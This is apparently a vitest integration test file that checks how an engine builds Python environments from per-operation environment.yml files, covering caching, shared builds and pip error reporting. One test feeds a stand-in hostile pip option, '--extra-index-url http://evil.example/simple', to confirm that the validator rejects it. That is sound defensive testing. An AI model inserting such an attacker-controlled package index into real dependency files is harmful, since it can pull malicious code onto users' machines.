import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { JobProgressEvent } from '@deepforge/protocol';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { engineFixture, type EngineFixture } from '../test-support/engine-fixture.js';
import { chain, py } from '../test-support/project-files.js';
import { makeTempDir, removeTree } from '../test-support/temp-dir.js';
import { buildTestWheel } from '../test-support/test-wheel.js';
import { ENVIRONMENT_MARKER } from './environment.cache.js';

/**
 * Operations in environments built from their environment files, by a real engine: real venvs, real pip,
 * offline against a wheel the test writes. One environment is built for the whole file and reused (each build
 * costs some 2–3 s).
 */

const UsesProbe = py(
  'import sys',
  'import dfprobe',
  'class UsesProbe():',
  '    def execute(self):',
  '        print("prefix", sys.prefix)',
  '        value = dfprobe.VALUE',
  '        return value',
);

const ENV = `# the operation's packages
name: probe
channels:
  - conda-forge
dependencies:
  - python=3.11
  - numpy
  - pip:
    - dfprobe==1.0
`;

describe('operation environments', () => {
  let root: string;
  let envDir: string;
  let wheels: string;
  let f: EngineFixture;

  beforeAll(async () => {
    root = await makeTempDir('envs');
    envDir = join(root, 'environments');
    wheels = join(root, 'wheels');
    await buildTestWheel(wheels, 'dfprobe', '1.0', { 'dfprobe/__init__.py': 'VALUE = 42\n' });
    f = await engineFixture({
      'environments.dir': envDir,
      // --isolated: this machine's pip configuration (extra find-links) does not change what the tests see.
      'environments.pipArgs': ['--isolated', '--no-index', '--find-links', wheels],
    });
  });
  afterAll(async () => {
    await f.cleanup();
    await removeTree(root);
  });

  const run = async (
    files: Record<string, string>,
    operation = 'UsesProbe',
    code = UsesProbe,
    cache = false,
  ) => {
    const { dir, project } = await f.project(
      {
        operations: { [operation]: code.replace('UsesProbe', operation) },
        files,
        pipelines: { main: chain([{ id: 'probe', operation }], []) },
      },
      `p${Math.random().toString(36).slice(2)}`,
    );
    const started = await f.engine.startExecution({ project, projectDir: dir, pipelineName: 'main', cache });
    const done = await started.done;
    const job = done.jobs.find((j) => j.node === 'probe')!;
    const log = await readFile(join(done.dir, 'jobs', 'probe', 'console.log'), 'utf8').catch(() => '');
    return { started, done, job, log };
  };
  const envs = async (): Promise<string[]> => (await readdir(join(envDir, 'envs')).catch(() => [])).sort();

  it('builds the environment before the job, shows it in the console and progress, and runs the job in it', async () => {
    const { started, done, job, log } = await run({ 'operations/UsesProbe.environment.yml': ENV });
    expect(done.status, log).toBe('success');
    expect(log).toMatch(/\[deepforge\] preparing environment [0-9a-f]{32}: a venv of \/usr\/bin\/python3/);
    expect(log).toMatch(/\[deepforge\] line 3: channels: ignored/);
    expect(log).toMatch(/\[pip\] .*Successfully installed dfprobe-1\.0/);
    expect(log).toMatch(/\[pip\] Requirement already satisfied: numpy/);
    const [key] = await envs();
    expect(log).toContain(`prefix ${join(envDir, 'envs', key!)}`);
    expect(log.indexOf('preparing environment')).toBeLessThan(log.indexOf('prefix '));
    const marker = JSON.parse(await readFile(join(envDir, 'envs', key!, ENVIRONMENT_MARKER), 'utf8'));
    expect(marker).toMatchObject({ key, requirements: ['numpy', 'dfprobe==1.0'] });
    expect(job.outputs).toHaveLength(1);

    // The job panel's progress bar: steps up to done.
    const bars = f.events.filter(
      (e): e is JobProgressEvent =>
        e.type === 'job.progress' && e.executionId === started.id && e.bar === 'environment',
    );
    expect(bars.map((b) => [b.n, b.total, b.done ?? false])).toEqual([
      [0, 2, false],
      [1, 2, false],
      [2, 2, true],
    ]);
    expect(bars[0]!.desc).toMatch(/preparing environment/);
  });

  it('never builds an unchanged file twice: comments, name and the operation may differ', async () => {
    const before = await envs();
    const marker = await readFile(join(envDir, 'envs', before[0]!, ENVIRONMENT_MARKER), 'utf8');
    const same = ENV.replace('name: probe', 'name: other').replace('# the', '# still the');
    const { done, log } = await run({ 'operations/Probe2.environment.yml': same }, 'Probe2');
    expect(done.status, log).toBe('success');
    expect(log).toMatch(
      /environment [0-9a-f]{32} \(numpy, dfprobe==1\.0\): ready, built before on this machine/,
    );
    expect(log).not.toContain('[pip]');
    expect(log).not.toContain('preparing environment');
    expect(await envs()).toEqual(before);
    expect(await readFile(join(envDir, 'envs', before[0]!, ENVIRONMENT_MARKER), 'utf8')).toBe(marker);
  });

  it('makes the environment file part of the job cache key', async () => {
    const again = await run({ 'operations/UsesProbe.environment.yml': ENV }, 'UsesProbe', UsesProbe, true);
    expect(again.job.status).toBe('cached');
    const changed = await run(
      { 'operations/UsesProbe.environment.yml': `${ENV}# changed\n` },
      'UsesProbe',
      UsesProbe,
      true,
    );
    expect(changed.job.status).toBe('success');
    expect(changed.log).toMatch(/ready, built before on this machine/);
  });

  it('two jobs needing the same new environment at once share one build', async () => {
    const before = await envs();
    const file = 'dependencies:\n  - pip:\n    - dfprobe>=1.0\n';
    const { dir, project } = await f.project(
      {
        operations: { UsesProbe, Probe3: UsesProbe.replace('UsesProbe', 'Probe3') },
        files: {
          'operations/UsesProbe.environment.yml': file,
          'operations/Probe3.environment.yml': `# same packages\n${file}`,
        },
        pipelines: {
          main: chain(
            [
              { id: 'a', operation: 'UsesProbe' },
              { id: 'b', operation: 'Probe3' },
            ],
            [],
          ),
        },
      },
      'shared',
    );
    const done = await (
      await f.engine.startExecution({ project, projectDir: dir, pipelineName: 'main' })
    ).done;
    expect(done.status).toBe('success');
    const logs = await Promise.all(
      ['a', 'b'].map((n) => readFile(join(done.dir, 'jobs', n, 'console.log'), 'utf8')),
    );
    // One build: one new environment; the job that came second waited for it, and shows its lines too.
    expect(await envs()).toHaveLength(before.length + 1);
    const waited = logs.filter((l) => /being built for another job; waiting for it/.test(l));
    expect(waited).toHaveLength(1);
    for (const log of logs) expect(log).toContain('Successfully installed dfprobe-1.0');
  });

  it('fails the job with pip’s message when a package cannot be installed, and keeps nothing of the build', async () => {
    const before = await envs();
    const { started, done, job, log } = await run({
      'operations/UsesProbe.environment.yml': 'dependencies:\n  - pip:\n    - dfprobe-missing==2.0\n',
    });
    expect(done.status).toBe('failed');
    expect(job.status).toBe('failed');
    expect(job.error).toMatchObject({ kind: 'environment' });
    expect(job.error!.message).toMatch(
      /pip could not install the environment \(exit 1\): .*No matching distribution found for dfprobe-missing==2\.0/,
    );
    expect(log).toContain('[pip] ERROR: No matching distribution found for dfprobe-missing==2.0');
    // The job panel's bar does not stay behind the failure.
    const bars = f.events.filter(
      (e): e is JobProgressEvent =>
        e.type === 'job.progress' && e.executionId === started.id && e.bar === 'environment',
    );
    expect(bars.at(-1)).toMatchObject({ n: 1, total: 2, done: true });
    expect(log).not.toContain('prefix ');
    expect(await envs()).toEqual(before);
  });

  it('fails the job before anything is built when the file does not read, naming the line', async () => {
    const before = await envs();
    const { job, log } = await run({
      'operations/UsesProbe.environment.yml':
        'dependencies:\n  - pip:\n    - --extra-index-url http://evil.example/simple\n',
    });
    expect(job.error).toMatchObject({ kind: 'environment' });
    expect(job.error!.message).toMatch(
      /^operations\/UsesProbe\.environment\.yml line 3: `--extra-index-url http:\/\/evil\.example\/simple`: pip options are not accepted/,
    );
    expect(log).toMatch(/operations\/UsesProbe\.environment\.yml:3:7:/);
    expect(log).not.toContain('[pip]');
    expect(await envs()).toEqual(before);

    const broken = await run({ 'operations/UsesProbe.environment.yml': 'dependencies:\n\t- numpy\n' });
    expect(broken.job.error!.message).toMatch(/line 2: a tab: YAML indents with spaces only/);
  });

  it('refuses an environment that asks for another Python; runs as before without a file or with none listed', async () => {
    const other = await run({
      'operations/UsesProbe.environment.yml': 'dependencies:\n  - python=3.9\n  - tqdm\n',
    });
    expect(other.job.error).toMatchObject({ kind: 'environment' });
    expect(other.job.error!.message).toMatch(
      /line 2: the environment asks for python==3\.9\.\*, but the interpreter is Python 3\.11/,
    );

    const plain = py(
      'import sys',
      'class UsesProbe():',
      '    def execute(self):',
      '        print("prefix", sys.prefix)',
      '        return 1',
    );
    const noPackages = await run(
      { 'operations/UsesProbe.environment.yml': '# nothing yet\ndependencies:\n  - python>=3.8\n' },
      'UsesProbe',
      plain,
    );
    expect(noPackages.done.status, noPackages.log).toBe('success');
    expect(noPackages.log).not.toContain('environment');
    expect(noPackages.log).toMatch(/prefix \/usr\n/);
  });
});
